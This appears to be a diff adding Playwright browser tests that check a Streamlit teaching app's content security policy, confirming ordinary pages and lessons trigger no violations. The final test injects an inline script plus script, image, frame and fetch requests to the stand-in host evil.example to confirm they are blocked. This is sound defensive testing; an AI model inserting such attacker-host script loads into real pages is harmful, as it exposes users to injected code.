@@ -1,0 +1,92 @@
+"""The pages under their own security policy, which the other tests' browser does not enforce:
+nothing that a page does is forbidden to it, and what it never does is.
+"""
+
+import re
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from lessons import chapters
+from tests.browser.test_app import LAB, cells, control
+
+pytestmark = pytest.mark.browser
+
+# Said by the browser for whatever the policy forbids. Streamlit's protobuf tries WebAssembly for
+# numbers of 64 bits, and does without.
+WATCH = """
+window.forbidden = [];
+addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sourceFile }) => {
+  if (blockedURI === "wasm-eval" && /protobuf/.test(sourceFile)) return;
+  forbidden.push([violatedDirective, blockedURI, sourceFile]);
+});
+"""
+
+
+@pytest.fixture
+def page(browser: Browser) -> Iterator[Page]:
+    context = browser.new_context(viewport={"width": 1280, "height": 2400})
+    page = context.new_page()
+    page.add_init_script(WATCH)
+    yield page
+    context.close()
+
+
+def shown(page: Page, url: str) -> None:
+    page.goto(url)
+    expect(page.locator("h1").first).to_be_visible()
+    expect(page.locator('.stApp[data-test-script-state="notRunning"]')).to_be_attached()
+    for lab in page.locator(".gl-lab").all():
+        expect(lab).to_have_attribute("data-ready", "true", timeout=60_000)
+    page.wait_for_timeout(500)
+
+
+@pytest.mark.parametrize("path", ["/", "/playground", "/glossary", "/teach"])
+def test_no_page_needs_what_the_policy_forbids(app, page, path):
+    shown(page, app.url + path)
+    assert page.evaluate("forbidden") == []
+
+
+@pytest.mark.parametrize("chapter", chapters(), ids=lambda chapter: chapter.slug)
+def test_no_lesson_does(app, page, chapter):
+    """Each at its first question, and what is left of it to see: its code and its file."""
+    for lesson in chapter.lessons:
+        steps = enumerate(lesson.prose.steps, start=1)
+        step = next(number for number, one in steps if one.question)
+        shown(page, f"{app.url}/{chapter.slug}?lesson={lesson.slug}&step={step}")
+        assert page.evaluate("forbidden") == [], lesson.slug
+    page.get_by_text("JAX", exact=True).click()
+    page.get_by_text("Take it with you").click()
+    with page.expect_download():
+        page.get_by_role("link", name="Download").click()
+    assert page.evaluate("forbidden") == []
+
+
+def test_a_lab_works_and_a_chart_in_space_is_drawn(app, page):
+    shown(page, app.url + "/clipping?lesson=cliff&step=2&seeds=1")
+    expect(page.locator("[data-figure] canvas").first).to_be_attached()
+    page.goto(app.url + "/stop_gradient?lesson=wrong_place&step=3")
+    expect(page.locator(LAB)).to_be_visible()
+    before = cells(page)
+    control(page, "x").fill("3, 4")
+    expect(page).to_have_url(re.compile("x=3"))
+    assert cells(page) != before
+    assert page.evaluate("forbidden") == []
+
+
+def test_a_script_from_elsewhere_a_frame_and_a_form_are_forbidden(app, page):
+    shown(page, app.url + "/glossary")
+    page.evaluate("""() => {
+      const add = (name, set) =>
+        document.body.append(Object.assign(document.createElement(name), set));
+      add("script", { textContent: "window.ran = 1" });
+      add("script", { src: "https://evil.example/x.js" });
+      add("img", { src: "https://evil.example/x.png" });
+      add("iframe", { src: "https://evil.example/" });
+      fetch("https://evil.example/").catch(() => {});
+    }""")
+    page.wait_for_timeout(500)
+    found = {kind.split("-elem")[0] for kind, _, _ in page.evaluate("forbidden")}
+    assert found == {"script-src", "img-src", "frame-src", "connect-src"}
+    assert page.evaluate("window.ran") is None
